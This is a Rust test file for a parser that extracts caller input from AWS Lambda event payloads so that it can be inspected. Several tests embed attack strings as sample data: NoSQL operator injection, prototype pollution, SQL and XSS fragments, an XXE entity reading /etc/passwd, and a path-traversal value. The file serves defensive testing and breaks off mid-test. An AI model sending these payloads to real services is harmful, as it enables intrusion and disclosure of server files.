use super::sample::{sample, set_path, sqs_record};
use super::*;
use serde_json::{json, Value};

/// (path, role, text, transforms) of every field the view yields.
fn fields(event: &Value) -> Vec<(String, FieldRole, String, Vec<&'static str>)> {
    let mut out = Vec::new();
    InputView::new(event).for_each(|f| {
        out.push((
            f.path.to_string(),
            f.role,
            f.text.to_owned(),
            f.transforms.names().collect(),
        ))
    });
    out
}

fn value_at(event: &Value, path: &str) -> Option<(String, Vec<&'static str>)> {
    values_at(event, path).into_iter().next()
}

/// Every value read at `path`, in walk order, with its transforms.
fn values_at(event: &Value, path: &str) -> Vec<(String, Vec<&'static str>)> {
    fields(event)
        .into_iter()
        .filter(|(p, role, _, _)| p == path && *role == FieldRole::Value)
        .map(|(_, _, text, t)| (text, t))
        .collect()
}

fn has_path(event: &Value, path: &str) -> bool {
    fields(event).iter().any(|(p, _, _, _)| p == path)
}

#[test]
fn every_sample_is_detected_as_its_trigger() {
    for trigger in Trigger::ALL {
        assert_eq!(Trigger::detect(&sample(trigger)), trigger, "{trigger}");
        assert_eq!(Trigger::from_name(trigger.name()), Some(trigger));
    }
}

#[test]
fn samples_have_the_shapes_aws_lambda_events_expects() {
    use aws_lambda_events::event::*;
    fn parses<T: serde::de::DeserializeOwned>(t: Trigger) {
        serde_json::from_value::<T>(sample(t)).unwrap_or_else(|e| panic!("{t}: {e}"));
    }
    parses::<apigw::ApiGatewayProxyRequest>(Trigger::ApiGatewayRest);
    parses::<apigw::ApiGatewayV2httpRequest>(Trigger::ApiGatewayHttp);
    parses::<lambda_function_urls::LambdaFunctionUrlRequest>(Trigger::FunctionUrl);
    parses::<apigw::ApiGatewayWebsocketProxyRequest>(Trigger::WebSocket);
    parses::<alb::AlbTargetGroupRequest>(Trigger::Alb);
    parses::<vpc_lattice::VpcLatticeRequestV2>(Trigger::VpcLattice);
    parses::<apigw::ApiGatewayCustomAuthorizerRequestTypeRequest>(Trigger::ApiGatewayAuthorizer);
    parses::<s3::S3Event>(Trigger::S3);
    parses::<sqs::SqsEvent>(Trigger::Sqs);
    parses::<sns::SnsEvent>(Trigger::Sns);
    parses::<dynamodb::Event>(Trigger::DynamoDb);
    parses::<kinesis::KinesisEvent>(Trigger::Kinesis);
    parses::<eventbridge::EventBridgeEvent>(Trigger::EventBridge);
    parses::<ses::SimpleEmailEvent>(Trigger::Ses);
    parses::<iot::IoTCoreCustomAuthorizerRequest>(Trigger::Iot);
    parses::<cognito::CognitoEventUserPoolsPreSignup>(Trigger::CognitoUserPool);
    parses::<firehose::KinesisFirehoseEvent>(Trigger::Firehose);
    parses::<kafka::KafkaEvent>(Trigger::Kafka);
    parses::<activemq::ActiveMqEvent>(Trigger::AmazonMq);
}

#[test]
fn non_object_and_empty_events_are_unknown() {
    for e in [
        json!(null),
        json!("text"),
        json!([1, 2]),
        json!({}),
        json!({"Records": []}),
    ] {
        assert_eq!(Trigger::detect(&e), Trigger::Unknown, "{e}");
    }
    assert_eq!(fields(&json!(["a", {"b": "c"}])).len(), 3);
}

#[test]
fn api_gateway_v2_json_body_headers_query_and_cookies() {
    let e = sample(Trigger::ApiGatewayHttp);
    let (note, t) = value_at(&e, "$.body.note").unwrap();
    assert!(note.starts_with("Leave at the front desk"));
    assert_eq!(t, vec!["json"]);
    assert_eq!(
        value_at(&e, "$.headers.user-agent")
            .unwrap()
            .0
            .split(' ')
            .next(),
        Some("Mozilla/5.0")
    );
    assert_eq!(
        value_at(&e, "$.queryStringParameters.campaign").unwrap().0,
        "winter"
    );
    assert_eq!(value_at(&e, "$.cookies[1]").unwrap().0, "locale=en-GB");
    assert_eq!(value_at(&e, "$.rawPath").unwrap().0, "/orders");
    // AWS-generated metadata is not caller input.
    assert!(!has_path(&e, "$.requestContext.accountId"));
    let view = InputView::new(&e);
    let http = view.http().unwrap();
    assert_eq!(
        (http.method.as_str(), http.path.as_str()),
        ("POST", "/orders")
    );
    assert_eq!(http.route.as_deref(), Some("/orders"));
    assert_eq!(http.source_ip.as_deref(), Some("198.51.100.23"));
}

#[test]
fn object_keys_are_fields_too() {
    let mut e = sample(Trigger::ApiGatewayHttp);
    e["body"] = json!("{\"user\": {\"$ne\": null}, \"__proto__\": {\"admin\": true}}");
    let f = fields(&e);
    assert!(f
        .iter()
        .any(|(p, r, t, _)| p == "$.body.user['$ne']" && *r == FieldRole::Key && t == "$ne"));
    assert!(f
        .iter()
        .any(|(p, r, t, _)| p == "$.body.__proto__" && *r == FieldRole::Key && t == "__proto__"));
}

#[test]
fn path_segments_are_values_and_base64_in_them_is_read() {
    let mut e = sample(Trigger::ApiGatewayHttp);
    let payload = "<script>alert(1)</script>";
    let b64 = super::sample::b64_for_tests(payload);
    e["rawPath"] = json!(format!(
        "/items/123) AND 1=1/files/{}",
        b64.trim_end_matches('=')
    ));
    let values: Vec<(String, Vec<&str>)> = fields(&e)
        .into_iter()
        .filter(|(p, r, _, _)| p == "$.rawPath" && *r == FieldRole::Value)
        .map(|(_, _, text, t)| (text, t))
        .collect();
    // The whole path, the one segment that is not plain, and the decoded one.
    assert!(values.iter().any(|(v, _)| v.starts_with("/items/")));
    assert!(values.contains(&("123) AND 1=1".to_owned(), vec![])));
    assert!(values.contains(&(payload.to_owned(), vec!["base64"])));
    // Plain segments are not repeated as values.
    assert!(!values.iter().any(|(v, _)| v == "items" || v == "files"));
    // A percent-encoded segment is also read as a router decodes it: JSON shows there.
    e["rawPath"] = json!("/q/%7B%22%24where%22%3A%22sleep(1)%22%7D");
    let decoded: Vec<_> = fields(&e)
        .into_iter()
        .filter(|(p, ..)| p.starts_with("$.rawPath") && p != "$.rawPath")
        .collect();
    let at = "$.rawPath['$where']".to_owned();
    assert_eq!(
        decoded,
        [
            (
                at.clone(),
                FieldRole::Key,
                "$where".to_owned(),
                vec!["url", "json"]
            ),
            (
                at,
                FieldRole::Value,
                "sleep(1)".to_owned(),
                vec!["url", "json"]
            ),
        ]
    );
}

#[test]
fn base64_bodies_are_decoded_then_parsed() {
    let mut e = sample(Trigger::ApiGatewayRest);
    e["isBase64Encoded"] = json!(true);
    e["body"] = json!(super::sample::b64_for_tests("{\"comment\":\"hello\"}"));
    assert_eq!(
        value_at(&e, "$.body.comment").unwrap(),
        ("hello".to_owned(), vec!["base64", "json"])
    );
    // Undeclared base64 in it is read as it is in a plain body (binary media types make
    // API Gateway encode every body); base64 inside that is not.
    let inner = super::sample::b64_for_tests("a secret note");
    let twice = super::sample::b64_for_tests(&inner);
    let body = format!("{{\"a\":\"{inner}\",\"b\":\"{twice}\"}}");
    e["body"] = json!(super::sample::b64_for_tests(&body));
    let texts: Vec<_> = fields(&e)
        .into_iter()
        .filter(|(p, role, ..)| p.starts_with("$.body.") && *role == FieldRole::Value)
        .map(|(p, _, text, t)| (p, text, t))
        .collect();
    let field =
        |p: &str, text: &str, t: Vec<&'static str>| (format!("$.body.{p}"), text.to_owned(), t);
    assert_eq!(
        texts,
        [
            field("a", &inner, vec!["base64", "json"]),
            field("a", "a secret note", vec!["base64", "json"]),
            field("b", &twice, vec!["base64", "json"]),
            field("b", &inner, vec!["base64", "json"]),
        ]
    );
    // Not flagged as base64: the body is taken as it is.
    e["isBase64Encoded"] = json!(false);
    e["body"] = json!("aGVsbG8=");
    assert_eq!(value_at(&e, "$.body").unwrap().0, "aGVsbG8=");
}

#[test]
fn utf16_bodies_are_read_as_their_text() {
    use base64::Engine as _;
    let utf16: Vec<u8> = "\u{feff}{\"comment\":\"hello\"}"
        .encode_utf16()
        .flat_map(u16::to_le_bytes)
        .collect();
    let mut e = sample(Trigger::ApiGatewayRest);
    e["isBase64Encoded"] = json!(true);
    e["body"] = json!(base64::engine::general_purpose::STANDARD.encode(utf16));
    assert_eq!(
        value_at(&e, "$.body.comment").unwrap(),
        ("hello".to_owned(), vec!["base64", "json", "utf16"])
    );
    let utf32: Vec<u8> = "{\"comment\":\"hello\"}"
        .chars()
        .flat_map(|c| u32::from(c).to_le_bytes())
        .collect();
    e["body"] = json!(base64::engine::general_purpose::STANDARD.encode(utf32));
    assert_eq!(
        value_at(&e, "$.body.comment").unwrap(),
        ("hello".to_owned(), vec!["base64", "json", "utf32"])
    );
}

#[test]
fn deflated_bodies_are_inflated() {
    use base64::Engine as _;
    use std::io::Write as _;
    // `Content-Encoding: deflate` is a zlib stream to Node's body parsers.
    let mut z = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::default());
    z.write_all(b"{\"comment\":\"hello\"}").unwrap();
    let mut e = sample(Trigger::ApiGatewayRest);
    e["isBase64Encoded"] = json!(true);
    e["body"] = json!(base64::engine::general_purpose::STANDARD.encode(z.finish().unwrap()));
    assert_eq!(
        value_at(&e, "$.body.comment").unwrap(),
        ("hello".to_owned(), vec!["base64", "json", "zlib"])
    );
}

#[test]
fn form_bodies_are_split_and_decoded() {
    let mut e = sample(Trigger::ApiGatewayRest);
    e["headers"]["Content-Type"] = json!("application/x-www-form-urlencoded; charset=utf-8");
    e["body"] = json!("name=Ada+Lovelace&role%5B%24ne%5D=x");
    assert_eq!(
        value_at(&e, "$.body.name").unwrap(),
        ("Ada Lovelace".to_owned(), vec!["url"])
    );
    assert!(fields(&e)
        .iter()
        .any(|(_, r, t, _)| *r == FieldRole::Key && t == "role[$ne]"));
    // Not the whole body: a form's fields are what the application reads.
    assert!(value_at(&e, "$.body").is_none());
}

#[test]
fn markup_sent_as_a_form_is_also_read_whole() {
    // Split at `&`, an entity declaration falls apart (`&x;` opens a field): the document is
    // also walked as one string, as an XML parser that ignores the type reads it.
    let mut e = sample(Trigger::ApiGatewayRest);
    e["headers"]["Content-Type"] = json!("application/x-www-form-urlencoded");
    let doc = "<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>";
    e["body"] = json!(doc);
    assert_eq!(value_at(&e, "$.body").unwrap().0, doc);
}

#[test]
fn the_content_type_of_multi_value_headers_lays_the_body_out() {
    // ALB with multi-value headers on sends only `multiValueHeaders`.
    let mut e = sample(Trigger::Alb);
    e.as_object_mut().unwrap().remove("headers");
    e["multiValueHeaders"] = json!({"Content-Type": ["multipart/form-data; boundary=B"]});
    e["body"] = json!(
        "--B\r\nContent-Disposition: form-data; name=\"file\"; filename=\"a.txt\"\r\n\r\nhi\r\n--B--\r\n"
    );
    assert_eq!(value_at(&e, "$.body.file.filename").unwrap().0, "a.txt");
}

#[test]
fn multipart_transfer_encodings_are_undone() {
    let mut e = sample(Trigger::ApiGatewayRest);
    e["headers"]["Content-Type"] = json!("multipart/form-data; boundary=B");
    e["body"] = json!(
        "--B\r\nContent-Disposition: form-data; name=\"bio\"\r\n\
         Content-Transfer-Encoding: quoted-printable\r\n\r\n=3Cb=3Ehi=3C/b=3E\r\n\
         --B\r\nContent-Disposition: form-data; name=\"note\"\r\n\
         Content-Transfer-Encoding: BASE64\r\n\r\naGVs\r\nbG8=\r\n--B--\r\n"
    );
    let at = |path: &str| values_at(&e, path);
    assert_eq!(
        at("$.body.bio"),
        [
            ("=3Cb=3Ehi=3C/b=3E".to_owned(), vec!["multipart"]),
            (
                "<b>hi</b>".to_owned(),
                vec!["multipart", "quoted_printable"]
            ),
        ]
    );
    assert_eq!(
        at("$.body.note")[1],
        ("hello".to_owned(), vec!["base64", "multipart"])
    );
}

#[test]
fn multipart_bodies_are_split_into_parts() {
    let mut e = sample(Trigger::ApiGatewayRest);
    e["headers"]["Content-Type"] = json!("multipart/form-data; boundary=----B42");
    e["body"] = json!(
        "------B42\r\nContent-Disposition: form-data; name=\"title\"\r\n\r\nQ3 report\r\n\
         ------B42\r\nContent-Disposition: form-data; name=\"file\"; filename=\"q3.csv\"\r\n\
         Content-Type: text/csv\r\n\r\na,b\n1,2\r\n------B42\r\n\
         Content-Disposition: form-data; name=\"meta\"\r\n\r\n{\"tag\": \"x\"}\r\n------B42--\r\n"
    );
    assert_eq!(
        value_at(&e, "$.body.title").unwrap(),
        ("Q3 report".to_owned(), vec!["multipart"])
    );
    assert_eq!(value_at(&e, "$.body.file.filename").unwrap().0, "q3.csv");
    assert_eq!(
        value_at(&e, "$.body.file.content-type").unwrap().0,
        "text/csv"
    );
    assert_eq!(value_at(&e, "$.body.file").unwrap().0, "a,b\n1,2");
    assert_eq!(
        value_at(&e, "$.body.meta.tag").unwrap(),
        ("x".to_owned(), vec!["json", "multipart"])
    );
    assert!(fields(&e)
        .iter()
        .any(|(p, r, t, _)| p == "$.body.file" && *r == FieldRole::Key && t == "file"));
    // No delimiter: the body stays one string.
    e["body"] = json!("not multipart at all");
    assert_eq!(value_at(&e, "$.body").unwrap().0, "not multipart at all");
}

#[test]
fn xml_bodies_are_walked_by_node_and_kept_whole() {
    let mut e = sample(Trigger::ApiGatewayRest);
    e["headers"]["Content-Type"] = json!("application/xml");
    let doc = "<?xml version=\"1.0\"?><order id=\"7\"><note>ring &amp; wait</note><item/><note>b</note></order>";
    e["body"] = json!(doc);
    assert_eq!(value_at(&e, "$.body").unwrap().0, doc);
    assert_eq!(
        value_at(&e, "$.body.order['@id']").unwrap(),
        ("7".to_owned(), vec!["xml"])
    );
    let notes: Vec<String> = fields(&e)
        .into_iter()
        .filter(|(p, r, _, _)| p == "$.body.order.note" && *r == FieldRole::Value)
        .map(|(_, _, t, _)| t)
        .collect();
    assert_eq!(notes, vec!["ring & wait", "b"]);
    assert!(has_path(&e, "$.body.order.item"));
}

#[test]
fn cookie_headers_are_split_into_named_values() {
    let mut e = sample(Trigger::ApiGatewayRest);
    e["headers"]["Cookie"] = json!("theme=dark; cart=%7B%22n%22%3A%222%22%7D");
    assert_eq!(value_at(&e, "$.headers.Cookie.theme").unwrap().0, "dark");
    assert!(fields(&e)
        .iter()
        .any(|(p, r, t, _)| p == "$.headers.Cookie.cart" && *r == FieldRole::Key && t == "cart"));
    // The whole header is still a value of its own.
    assert!(value_at(&e, "$.headers.Cookie").is_some());
    // As cookie parsers decode it: `cart` is JSON once percent-decoded.
    assert_eq!(
        value_at(&e, "$.headers.Cookie.cart.n").unwrap(),
        ("2".to_owned(), vec!["url", "json"])
    );
    let mut v2 = sample(Trigger::ApiGatewayHttp);
    assert_eq!(value_at(&v2, "$.cookies.locale").unwrap().0, "en-GB");
    // Express's JSON cookies (`j:`), raw or encoded.
    v2["cookies"] = json!(["a=j:{\"q\":\"x\"}", "b=j%3A%5B%22y%22%5D"]);
    assert_eq!(
        value_at(&v2, "$.cookies.a.q").unwrap(),
        ("x".to_owned(), vec!["json"])
    );
    assert_eq!(
        value_at(&v2, "$.cookies.b[0]").unwrap(),
        ("y".to_owned(), vec!["url", "json"])
    );
}

#[test]
fn rest_api_multi_value_headers_keep_duplicates_apart() {
    let mut e = sample(Trigger::ApiGatewayRest);
    e["multiValueHeaders"]["Authorization"] = json!(["Bearer a", "Bearer b"]);
    let view = InputView::new(&e);
    let http = view.http().unwrap();
    assert_eq!(
        http.header_values("authorization").collect::<Vec<_>>(),
        ["Bearer a", "Bearer b"]
    );
    assert_eq!(http.route.as_deref(), Some("/orders/{id}"));
    assert_eq!(http.method, "GET");
    assert_eq!(value_at(&e, "$.pathParameters.id").unwrap().0, "42");
}

#[test]
fn alb_query_parameters_arrive_undecoded_and_are_decoded() {
    let e = sample(Trigger::Alb);
    assert_eq!(
        value_at(&e, "$.queryStringParameters.q").unwrap(),
        ("blue mug".to_owned(), vec!["url"])
    );
    let view = InputView::new(&e);
    assert_eq!(
        view.http().unwrap().source_ip.as_deref(),
        Some("192.0.2.44")
    );
    // Decoded, a value is read as any string is: JSON and base64 in it too.
    let mut e = sample(Trigger::Alb);
    let b64 = super::sample::b64_for_tests("a note in base64");
    e["queryStringParameters"] = json!({"f": "%7B%22a%22%3A%22b%22%7D", "n": b64});
    assert_eq!(
        value_at(&e, "$.queryStringParameters.f.a").unwrap(),
        ("b".to_owned(), vec!["url", "json"])
    );
    let n = values_at(&e, "$.queryStringParameters.n");
    assert!(
        n.contains(&("a note in base64".to_owned(), vec!["base64", "url"])),
        "{n:?}"
    );
}

#[test]
fn x_forwarded_for_names_the_caller_only_where_the_trigger_says_so() {
    // An API Gateway caller writes its own X-Forwarded-For: not an address to report.
    let mut rest = sample(Trigger::ApiGatewayRest);
    rest["requestContext"]["identity"]
        .as_object_mut()
        .unwrap()
        .remove("sourceIp");
    rest["headers"]["X-Forwarded-For"] = json!("203.0.113.66");
    rest["multiValueHeaders"]["X-Forwarded-For"] = json!(["203.0.113.66"]);
    assert_eq!(InputView::new(&rest).http().unwrap().source_ip, None);
    let alb = sample(Trigger::Alb);
    assert!(InputView::new(&alb).http().unwrap().source_ip.is_some());
}

#[test]
fn authorizer_requests_are_requests() {
    // `REQUEST` (REST, payload 1.0): the request line and headers as its API sends them.
    let rest = sample(Trigger::ApiGatewayAuthorizer);
    let view = InputView::new(&rest);
    let http = view.http().unwrap();
    assert_eq!(
        (http.method.as_str(), http.path.as_str()),
        ("GET", "/orders/42")
    );
    assert_eq!(http.route.as_deref(), Some("/orders/{id}"));
    assert_eq!(
        value_at(&rest, "$.queryStringParameters.expand").unwrap().0,
        "items"
    );
    assert!(value_at(&rest, "$.methodArn").is_some()); // the caller's path is in it
                                                       // `TOKEN`: the token is a value and the bearer header; the method ARN names the request.
    let token = json!({"type": "TOKEN", "authorizationToken": "Bearer abc",
        "methodArn": "arn:aws:execute-api:us-east-1:1:api/prod/POST/orders/7"});
    assert_eq!(Trigger::detect(&token), Trigger::ApiGatewayAuthorizer);
    let view = InputView::new(&token);
    let http = view.http().unwrap();
    assert_eq!(
        (http.method.as_str(), http.path.as_str()),
        ("POST", "/orders/7")
    );
    assert_eq!(
        http.header_values("authorization").next(),
        Some("Bearer abc")
    );
    assert_eq!(
        value_at(&token, "$.authorizationToken").unwrap().0,
        "Bearer abc"
    );
    // Payload 2.0.
    let v2 = json!({"version": "2.0", "type": "REQUEST", "routeArn": "arn:x",
        "identitySource": ["Bearer abc"], "routeKey": "GET /a", "rawPath": "/a",
        "headers": {"authorization": "Bearer abc"},
        "requestContext": {"http": {"method": "GET", "sourceIp": "192.0.2.1"}}});
    let view = InputView::new(&v2);
    let http = view.http().unwrap();
    assert_eq!(
        (http.method.as_str(), http.route.as_deref()),
        ("GET", Some("/a"))
    );
    assert_eq!(http.source_ip.as_deref(), Some("192.0.2.1"));
    assert!(value_at(&v2, "$.headers.authorization").is_some());
}

#[test]
fn an_mtls_client_certificates_subject_and_a_websocket_close_reason_are_input() {
    let dn = "CN=device-17,O=Example";
    let mut http = sample(Trigger::ApiGatewayHttp);
    http["requestContext"]["authentication"] = json!({"clientCert": {"subjectDN": dn,
        "issuerDN": "CN=Example CA", "serialNumber": "a1:b2", "clientCertPem": "-----BEGIN"}});
    let subject = "$.requestContext.authentication.clientCert.subjectDN";
    assert_eq!(value_at(&http, subject).unwrap().0, dn);
    // What the API's own CA and AWS put there is not the client's.
    assert!(!has_path(
        &http,
        "$.requestContext.authentication.clientCert.issuerDN"
    ));
    assert!(!has_path(
        &http,
        "$.requestContext.authentication.clientCert.serialNumber"
    ));
    let mut rest = sample(Trigger::ApiGatewayRest);
    rest["requestContext"]["identity"]["clientCert"] = json!({"subjectDN": dn});
    let subject = "$.requestContext.identity.clientCert.subjectDN";
    assert_eq!(value_at(&rest, subject).unwrap().0, dn);
    let mut ws = sample(Trigger::WebSocket);
    ws["requestContext"]["disconnectReason"] = json!("Client-side close frame status code 1000");
    assert!(has_path(&ws, "$.requestContext.disconnectReason"));
    assert!(!has_path(&ws, "$.requestContext.connectionId"));
}

#[test]
fn vpc_lattice_requests_of_both_versions() {
    let mut v2 = sample(Trigger::VpcLattice);
    v2["method"] = json!("POST");
    v2["headers"]["authorization"] = json!(["Bearer a", "Bearer b"]);
    v2["headers"]["content-type"] = json!(["application/x-www-form-urlencoded"]);
    v2["queryStringParameters"]["q"] = json!(["blue mug", "red"]);
    v2["body"] = json!("bm90ZT1oaSUyMHRoZXJl"); // note=hi%20there
    v2["isBase64Encoded"] = json!(true);
    v2["requestContext"]["identity"]["x509SubjectCn"] = json!("client.example.com");
    let view = InputView::new(&v2);
    let http = view.http().unwrap();
    assert_eq!(
        (http.method.as_str(), http.path.as_str()),
        ("POST", "/orders/42")
    );
    assert_eq!(
        http.header_values("authorization").collect::<Vec<_>>(),
        ["Bearer a", "Bearer b"]
    );
    assert_eq!(http.source_ip.as_deref(), Some("10.0.2.100"));
    assert_eq!(
        value_at(&v2, "$.queryStringParameters.q[1]").unwrap().0,
        "red"
    );
    // The body is decoded and split by the content type its header list names.
    assert_eq!(
        value_at(&v2, "$.body.note").unwrap(),
        ("hi there".to_owned(), vec!["base64", "url"])
    );
    // The caller's certificate names are input; what Lattice verified is not.
    let cn = "$.requestContext.identity.x509SubjectCn";
    assert_eq!(value_at(&v2, cn).unwrap().0, "client.example.com");
    assert!(!has_path(&v2, "$.requestContext.identity.principal"));
    assert!(!has_path(&v2, "$.requestContext.serviceArn"));

    let v1 = json!({"raw_path": "/api/product", "method": "GET",
        "headers": {"x-forwarded-for": "10.0.2.7", "authorization": "Bearer c"},
        "query_string_parameters": {"category": "tv"}, "body": "eyJuYW1lIjoidHYifQ==",
        "is_base64_encoded": true, "extra": "x"});
    assert_eq!(Trigger::detect(&v1), Trigger::VpcLattice);
    assert!(check_shape(&v1).is_ok());
    let view = InputView::new(&v1);
    let http = view.http().unwrap();
    assert_eq!(http.path, "/api/product");
    assert_eq!(http.header_values("authorization").next(), Some("Bearer c"));
    assert_eq!(http.source_ip.as_deref(), Some("10.0.2.7"));
    assert_eq!(value_at(&v1, "$.raw_path").unwrap().0, "/api/product");
    assert_eq!(
        value_at(&v1, "$.query_string_parameters.category")
            .unwrap()
            .0,
        "tv"
    );
    assert_eq!(
        value_at(&v1, "$.body.name").unwrap().1,
        vec!["base64", "json"]
    );
    assert_eq!(value_at(&v1, "$.extra").unwrap().0, "x"); // undocumented: input
    assert!(!has_path(&v1, "$.method"));
}

#[test]
fn function_url_and_websocket_requests() {
    let e = sample(Trigger::FunctionUrl);
    assert_eq!(InputView::new(&e).http().unwrap().route, None);
    let ws = sample(Trigger::WebSocket);
    assert_eq!(value_at(&ws, "$.body.message").unwrap().0, "hello room");
    let view = InputView::new(&ws);
    assert_eq!(view.http().unwrap().method, "MESSAGE");
    assert_eq!(view.http().unwrap().route.as_deref(), Some("sendmessage"));
}

#[test]
fn s3_keys_are_form_decoded() {
    let e = sample(Trigger::S3);
    assert_eq!(
        value_at(&e, "$.Records[0].s3.object.key").unwrap(),
        ("invoices/2026/Q4 report(1).pdf".to_owned(), vec!["url"])
    );
    assert!(!has_path(&e, "$.Records[0].s3.bucket.name"));
    // Whole, then segment by segment, as a request path: a segment is what a handler that
    // splits the key (`tenant/user/file`) takes, and may be base64 or JSON of its own.
    let key = |k: &str| {
        let mut e = sample(Trigger::S3);
        e["Records"][0]["s3"]["object"]["key"] = json!(k);
        fields(&e)
            .into_iter()
            .filter(|(p, role, ..)| p.contains(".object.key") && *role == FieldRole::Value)
            .map(|(_, _, text, t)| (text, t))
            .collect::<Vec<_>>()
    };
    let b64 = super::sample::b64_for_tests("../../etc/passwd");
    assert_eq!(
        key(&format!("in/{b64}/x.csv")),
        [
            (format!("in/{b64}/x.csv"), vec![]),
            (b64.clone(), vec![]), // its `=` padding is no plain character
            ("../../etc/passwd".to_owned(), vec!["base64"]),
        ]
    );
    assert_eq!(
        key("%7B%22a%22%3A%22b%22%7D/c"),
        [
            // The whole key parses as JSON up to its `/`: what came before is walked too.
            ("b".to_owned(), vec!["url", "json"]),
            ("{\"a\":\"b\"}/c".to_owned(), vec!["url"]),
            ("b".to_owned(), vec!["url", "json"]), // the segment's, at `….object.key.a`
        ]
    );
}

#[test]
fn sqs_bodies_carry_json_and_records_have_ids() {
    let e = sample(Trigger::Sqs);
    assert_eq!(
        value_at(&e, "$.Records[1].body.note").unwrap(),
        ("no rush".to_owned(), vec!["json"])
    );
    assert!(!has_path(&e, "$.Records[0].receiptHandle"));
    let view = InputView::new(&e);
    let ids: Vec<_> = view
        .records()
        .iter()
        .map(|r| r.id.clone().unwrap())
        .collect();
    assert_eq!(
        ids,
        [
            "059f36b4-87a3-44ab-83d2-661975830a7d",
            "2e1424d4-f796-459a-8184-9c92662be6da"
        ]
    );
    let mut record = None;
    view.for_each(|f| {
        if f.path.as_str() == "$.Records[1].body.note" {
            record = f.record;
        }
    });
    assert_eq!(record, Some(1));
}

#[test]
fn sns_inside_sqs_is_unwrapped_twice() {
    let sns_envelope = json!({
        "Type": "Notification",
        "MessageId": "95df01b4",
        "TopicArn": "arn:aws:sns:us-east-1:123456789012:orders",
        "Message": json!({"orderId": "A-9", "comment": "deep inside"}).to_string(),
        "Timestamp": "2026-11-29T10:00:00.000Z"
    });
    let e = json!({"Records": [sqs_record("m-1", &sns_envelope.to_string())]});
    assert_eq!(
        value_at(&e, "$.Records[0].body.Message.comment").unwrap(),
        ("deep inside".to_owned(), vec!["json"])
    );
}

#[test]
fn sqs_message_attributes_string_and_binary() {
    let mut e = sample(Trigger::Sqs);
    e["Records"][0]["messageAttributes"] = json!({
        "origin": {"stringValue": "partner-feed", "dataType": "String"},
        "blob": {"binaryValue": super::sample::b64_for_tests("raw bytes"), "dataType": "Binary"},
        "lists": {"stringListValues": ["a", "b"], "dataType": "String",
            "binaryListValues": [super::sample::b64_for_tests("more bytes")]}
    });
    assert_eq!(
        value_at(
            &e,
            "$.Records[0].messageAttributes.lists.stringListValues[1]"
        )
        .unwrap(),
        ("b".to_owned(), vec![])
    );
    assert_eq!(
        value_at(
            &e,
            "$.Records[0].messageAttributes.lists.binaryListValues[0]"
        )
        .unwrap(),
        ("more bytes".to_owned(), vec!["base64"])
    );
    assert_eq!(
        value_at(&e, "$.Records[0].messageAttributes.origin.stringValue")
            .unwrap()
            .0,
        "partner-feed"
    );
    assert_eq!(
        value_at(&e, "$.Records[0].messageAttributes.blob.binaryValue").unwrap(),
        ("raw bytes".to_owned(), vec!["base64"])
    );
}

#[test]
fn sns_message_subject_and_attributes() {
    let e = sample(Trigger::Sns);
    assert_eq!(
        value_at(&e, "$.Records[0].Sns.Message.carrier").unwrap().0,
        "DHL"
    );
    assert_eq!(
        value_at(&e, "$.Records[0].Sns.Subject").unwrap().0,
        "Order shipped"
    );
    assert_eq!(
        value_at(&e, "$.Records[0].Sns.MessageAttributes.priority.Value")
            .unwrap()
            .0,
        "normal"
    );
    assert!(!has_path(&e, "$.Records[0].Sns.Signature"));
}

/// An SES receipt notification sent through SNS, its `content` the raw e-mail.
fn ses_through_sns(content: &str) -> Value {
    let mut e = sample(Trigger::Sns);
    let notification = json!({"notificationType": "Received",
        "mail": {"source": "a@example.com", "messageId": "m1"},
        "receipt": {"action": {"type": "SNS", "encoding": "UTF8"}},
        "content": content});
    e["Records"][0]["Sns"]["Message"] = json!(notification.to_string());
    e
}

#[test]
fn ses_content_is_read_as_an_email() {
    let content = "Return-Path: <a@example.com>\r\nReceived: from mx.example.com\r\n\tby inbound-smtp.us-east-1.amazonaws.com\r\n\
         Subject: Hello\r\nMIME-Version: 1.0\r\n\
         Content-Type: multipart/mixed; boundary=\"m\"\r\n\r\n\
         --m\r\nContent-Type: multipart/alternative; boundary=\"a\"\r\n\r\n\
         --a\r\nContent-Type: text/plain\r\n\r\nHi there\r\n\
         --a\r\nContent-Type: text/html\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n\
         <p>Hi =3Cthere=3E</p>\r\n--a--\r\n\
         --m\r\nContent-Type: message/rfc822\r\n\r\n\
         From: b@example.com\r\nDate: Mon, 1 Jan 2024 00:00:00 +0000\r\n\r\nForwarded body\r\n--m--\r\n";
    let e = ses_through_sns(content);
    let at = "$.Records[0].Sns.Message.content";
    // Folded lines joined; each field a key and a value.
    assert_eq!(
        value_at(&e, &format!("{at}.received")).unwrap(),
        (
            "from mx.example.com by inbound-smtp.us-east-1.amazonaws.com".to_owned(),
            vec!["json"]
        )
    );
    assert!(fields(&e)
        .iter()
        .any(|(p, r, text, _)| p == &format!("{at}.Subject")
            && *r == FieldRole::Key
            && text == "Subject"));
    // Parts by index, nested multiparts and attached e-mails by their structure.
    assert_eq!(value_at(&e, &format!("{at}[0][0]")).unwrap().0, "Hi there");
    let html: Vec<_> = fields(&e)
        .into_iter()
        .filter(|(p, ..)| p == &format!("{at}[0][1]"))
        .map(|(_, _, text, _)| text)
        .collect();
    // Decoded only, as a mail parser hands it over (a form's part is read both ways).
    assert_eq!(html, ["<p>Hi <there></p>"]);
    assert_eq!(
        value_at(&e, &format!("{at}[1].from")).unwrap().0,
        "b@example.com"
    );
    assert_eq!(
        value_at(&e, &format!("{at}[1]")).unwrap().0,
        "Forwarded body"
    );
    // The header lines are never one value.
    let whole: Vec<_> = fields(&e)
        .into_iter()
        .filter(|(_, _, text, _)| text.contains("MIME-Version:"))
        .collect();
    assert!(whole.is_empty(), "{whole:?}");
}

#[test]
fn email_header_fields_are_read_decoded_and_as_strings() {
    let content = "From: =?utf-8?B?PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==?= <a@example.com>\r\n\
         Subject: =?iso-8859-1?Q?caf=E9_au?= =?utf-8?Q?_lait?=\r\n\
         X-Data: eyJyb2xlIjogImFkbWluIiwgIm5vdGUiOiAiaGkifQ==\r\n\
         Content-Type: multipart/mixed; boundary=\"m\"\r\n\r\n\
         --m\r\nContent-Type: text/plain\r\n\
         Content-Disposition: attachment; filename=\"=?utf-8?Q?r=C3=A9sum=C3=A9.txt?=\"\r\n\r\nHi\r\n--m--\r\n";
    let e = ses_through_sns(content);
    let at = "$.Records[0].Sns.Message.content";
    // As the field is, then as a mail parser decodes its encoded words.
    assert_eq!(
        values_at(&e, &format!("{at}.from")),
        [
            (
